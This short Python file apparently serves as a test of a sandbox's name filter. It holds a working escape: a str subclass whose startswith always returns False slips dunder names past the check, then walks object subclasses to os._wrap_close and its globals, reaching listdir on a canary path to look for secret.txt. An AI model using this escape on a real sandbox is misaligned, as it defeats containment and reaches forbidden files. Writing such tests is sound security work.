"""Asks getattr with a text that starts with one thing and names another."""

# mypy: ignore-errors
# alone: gate tripwire kernel
# free: yes


class _Name(str):
    def startswith(self, *_):
        return False


def walk(thing, *names):
    for name in names:
        thing = getattr(thing, _Name(name))
        if name == "__subclasses__":
            thing = next(kind for kind in thing() if kind.__name__ == "_wrap_close")
    return thing


def attack():
    found = walk((), "__class__", "__base__", "__subclasses__", "__init__", "__globals__")
    return "secret.txt" in found["listdir"]("@CANARY@")
